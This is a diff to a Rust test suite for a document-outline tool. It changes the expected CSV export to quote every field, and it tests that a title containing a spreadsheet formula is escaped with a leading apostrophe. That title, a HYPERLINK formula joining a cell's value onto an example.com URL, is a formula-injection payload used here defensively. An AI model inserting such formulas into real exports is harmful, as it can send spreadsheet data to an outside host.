@@ -711,9 +711,10 @@ on_both_backends! {
         let demo = parse(DEMO_TOML, OutlineFormat::Toml).unwrap();
 
         let csv = editor.get(&format!("{OUTLINE}.csv")).await.text().await.unwrap();
-        assert!(csv.starts_with("number,title,kind,volume,page_start,page_end,line_start,line_end,parent\n"), "{csv}");
-        assert!(csv.contains("\n5.1,Connected Vehicles IoT,section,,9,12,660,800,\n"), "{csv}");
-        assert!(csv.contains("\n1,IoT components and their interactions,figure,,6,6,480,500,4\n"), "{csv}");
+        // Every field quoted (`export::cells`: no spreadsheet splits a cell).
+        assert!(csv.starts_with("\"number\",\"title\",\"kind\",\"volume\",\"page_start\",\"page_end\",\"line_start\",\"line_end\",\"parent\"\n"), "{csv}");
+        assert!(csv.contains("\n\"5.1\",\"Connected Vehicles IoT\",\"section\",\"\",\"9\",\"12\",\"660\",\"800\",\"\"\n"), "{csv}");
+        assert!(csv.contains("\n\"1\",\"IoT components and their interactions\",\"figure\",\"\",\"6\",\"6\",\"480\",\"500\",\"4\"\n"), "{csv}");
         assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), demo);
 
         let toml = editor.get(&format!("{OUTLINE}.toml")).await.text().await.unwrap();
@@ -730,7 +731,7 @@ on_both_backends! {
         let response = admin.save_node(node(&app, "5.1").id, &[("title", "=HYPERLINK(\"http://example.com/\"&A1)")]).await;
         admin.followed(response).await;
         let csv = editor.get(&format!("{OUTLINE}.csv")).await.text().await.unwrap();
-        assert!(csv.contains("\n5.1,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1)\",section,"), "{csv}");
+        assert!(csv.contains("\n\"5.1\",\"'=HYPERLINK(\"\"http://example.com/\"\"&A1)\",\"section\","), "{csv}");
         let toml = editor.get(&format!("{OUTLINE}.toml")).await.text().await.unwrap();
         let expected = docket::outline::build(docket::outline::entries_of(&stored(&app))).unwrap();
         assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), expected);
